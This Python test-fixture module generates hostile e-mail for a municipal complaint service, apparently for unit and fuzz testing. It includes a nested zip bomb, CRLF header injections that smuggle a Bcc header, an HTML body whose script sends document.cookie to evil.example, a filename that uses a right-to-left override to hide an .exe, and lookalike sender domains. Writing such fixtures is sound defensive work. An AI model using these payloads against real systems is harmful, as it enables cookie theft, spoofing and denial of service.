"""Hostile input for Synpunkt: mail and SMS built to break a parser, a
template or a registrator's judgement. Shared by the unit and integration
tests and the atheris job (benchmarks/fuzz.py). Everything is generated
(nothing hostile is stored in the tree) and deterministic."""

from __future__ import annotations

import base64
import functools
import io
import random
import zipfile
from datetime import UTC, datetime
from email.utils import format_datetime
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures" / "mail"
OWN_DOMAIN = "ekby.example"
_DATE = format_datetime(datetime(2026, 3, 2, 9, 0, tzinfo=UTC))


def _head(n: str, subject: str = "Synpunkt", sender: str = "", extra: str = "") -> bytes:
    sender = sender or f"Anna Test <anna.{n}@example.se>"  # one sender each: no reply limit
    return (f"From: {sender}\r\nTo: synpunkter@{OWN_DOMAIN}\r\nSubject: {subject}\r\n"
            f"Date: {_DATE}\r\nMessage-ID: <hostile-{n}@example.se>\r\nMIME-Version: 1.0\r\n"
            f"{extra}").encode()


def plain(n: str, text: str = "Hej! Gatlampan på Ekbyvägen 3 är trasig sedan en vecka.",
          **head: str) -> bytes:
    return (_head(n, **head) + b"Content-Type: text/plain; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: 8bit\r\n\r\n" + text.encode() + b"\r\n")


def with_attachment(n: str, filename: str, content: bytes,
                    content_type: str = "application/octet-stream",
                    text: str = "Hej, se bifogad fil om felet på lekplatsen i parken.") -> bytes:
    boundary = f"b-{n}"
    encoded = base64.encodebytes(content)  # 76-character lines
    return b"".join([
        _head(n, subject="Bilaga"),
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'.encode(),
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n".encode(),
        f"--{boundary}\r\nContent-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{_pct(filename)}\r\n\r\n".encode(),
        encoded,
        f"--{boundary}--\r\n".encode(),
    ])


def _pct(name: str) -> str:
    from urllib.parse import quote

    return quote(name, safe="")


def big_attachment(size: int = 50 * 1024 * 1024) -> bytes:
    """One attachment of ``size`` bytes (base64 makes the mail a third larger)."""
    block = bytes(random.Random(7).getrandbits(8) for _ in range(4096))
    return with_attachment("big", "ritning.pdf", (block * (size // len(block) + 1))[:size],
                           "application/pdf")


def many_parts(count: int = 10_000) -> bytes:
    body = b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\ndel %d\r\n" % i
                    for i in range(count))
    return (_head("parts", subject="Många delar")
            + b'Content-Type: multipart/mixed; boundary="p"\r\n\r\n' + body + b"--p--\r\n")


def deep_nesting(depth: int = 1_000) -> bytes:
    opening = b"".join(b'--d%d\r\nContent-Type: multipart/mixed; boundary="d%d"\r\n\r\n'
                       % (i, i + 1) for i in range(depth))
    inner = b"--d%d\r\nContent-Type: text/plain\r\n\r\ninnerst\r\n--d%d--\r\n" % (depth, depth)
    closing = b"".join(b"--d%d--\r\n" % i for i in reversed(range(depth)))
    return (_head("deep", subject="Djupt")
            + b'Content-Type: multipart/mixed; boundary="d0"\r\n\r\n' + opening + inner + closing)


def rfc822_nesting(depth: int = 1_000) -> bytes:
    """Forwarded inside forwarded: message/rfc822 parts need no boundary."""
    return (_head("fwd", subject="Vidarebefordrat")
            + b"Content-Type: message/rfc822\r\n\r\n" * depth
            + b"From: a@example.se\r\nSubject: innerst\r\n\r\ntext\r\n")


@functools.cache
def zip_bomb(levels: int = 3, fan: int = 10, inner_bytes: int = 10 * 1024 * 1024) -> bytes:
    """A 42.zip-style nest: ``fan`` copies per level of a zip holding
    ``inner_bytes`` of zeros; unpacked in full it is fan**levels * inner_bytes."""
    data = _zip({"noll.txt": bytes(inner_bytes)})
    for level in range(levels):
        data = _zip({f"lager{level}_{i}.zip": data for i in range(fan)})
    return data


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, content in files.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content,
                       compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zip_bomb_mail() -> bytes:
    return with_attachment("zipbomb", "bilder.zip", zip_bomb(), "application/zip")


INJECTED_BCC = "victim@elsewhere.example"


def b_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def q_word(text: str) -> str:
    return "=?utf-8?q?" + "".join(f"={b:02X}" for b in text.encode()) + "?="


def header_injections() -> dict[str, bytes]:
    """Names, subjects and ids carrying CR/LF and a Bcc, raw and encoded."""
    crlf = f"\r\nBcc: {INJECTED_BCC}\r\nX-Injected: ja"
    nul_name = q_word("Eva\x00\x0bLind")
    return {
        "inject_b_name": plain("inj1", sender=f'"{b_word("Anna" + crlf)}" <anna.inj@example.se>'),
        "inject_q_subject": plain("inj2", subject=q_word("Trasig lampa" + crlf)),
        "inject_b_subject": plain("inj3", subject=b_word("Hej" + crlf + "\r\n\r\nfalsk text")),
        "inject_raw_lf": plain("inj4", subject="Hej\nBcc: " + INJECTED_BCC),
        "inject_refs": plain("inj5", extra=(
            f"In-Reply-To: {b_word('<a@b>' + crlf)}\r\n"
            f"References: <x@y> {q_word(crlf)} <z@w>\r\n")),
        # Decoded once by us, the subject is itself an encoded word with a CR/LF:
        # the e-mail library would decode it again when building our receipt.
        "inject_double": plain("inj7", subject=b_word(q_word("Hej" + crlf))),
        "inject_nul_name": plain("inj6", sender=f'"{nul_name}" <eva.nul@example.se>',
                                 subject=b_word("\u2028Rad\u2029skift\x85NEL")),
    }


HOSTILE_HTML = """<html><head><style>@import url(https://evil.example/x.css);
body{background:url(https://evil.example/bg?c=1)}</style>
<script>fetch('https://evil.example/steal?'+document.cookie)</script></head>
<body onload="alert(1)"><p>Hej! Parkeringen vid Ekbyskolan är full av sopor.</p>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert(2)"><script>alert(3)</script><foreignObject><p>svgtext</p></foreignObject></svg>
<p style="background-image:url('https://evil.example/track')">Mvh Olle</p>
<img src="https://evil.example/pixel.gif"><a href="javascript:alert(4)">länk</a>
<object data="x.swf"></object><math><mi>mathtext</mi></math>
</body></html>"""


def hostile_html() -> bytes:
    return (_head("html", subject="Sopor")
            + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML.encode() + b"\r\n")


RTL_NAME = "faktura\u202efdp.exe"


def rtl_filename() -> bytes:
    return with_attachment("rtl", RTL_NAME, b"MZ\x90\x00 not really a program")


LOOKALIKE_SENDERS = {
    "lookalike_hyphen": "Ekby kommun <synpunkter@ekby-example.com>",
    "lookalike_cyrillic": "Ekby <registrator@\u0435kby.example>",  # Cyrillic е
    "lookalike_greek": "Ekby <synpunkter@e\u03bab\u0443.example>",  # Greek κ, Cyrillic у
    "lookalike_punycode": "Ekby <synpunkter@xn--kby-qdd.example>",  # Cyrillic е, as DNS writes it
    "lookalike_display": '"Ekby kommun <synpunkter@ekby.example>" <evil@elsewhere.example>',
    "lookalike_subdomain": "Ekby <synpunkter@ekby.example.evil.example>",
}


def lookalikes() -> dict[str, bytes]:
    return {name: plain(name, sender=sender,
                        text="Hej, jag klagar på snöröjningen på Ängsvägen igen.")
            for name, sender in LOOKALIKE_SENDERS.items()}


def hostile_mails(big: int = 50 * 1024 * 1024) -> dict[str, bytes]:
    """Every hostile mail by name, the first with an attachment of ``big``
    bytes (none when 0)."""
    mails = {"many_parts": many_parts(), "deep_nesting": deep_nesting(),
             "zip_bomb": zip_bomb_mail(), "hostile_html": hostile_html(),
             "rtl_filename": rtl_filename(), **header_injections(), **lookalikes()}
    if big:
        mails = {"big_attachment": big_attachment(big), **mails}
    return mails


SMS_LONG = ("Hej! Gatubelysningen på Kvarnbackavägen är trasig igen. " * 200)[:10_240]
SMS_EMOJI = "😡🚮🗑️💩🚯😤🙏" * 3
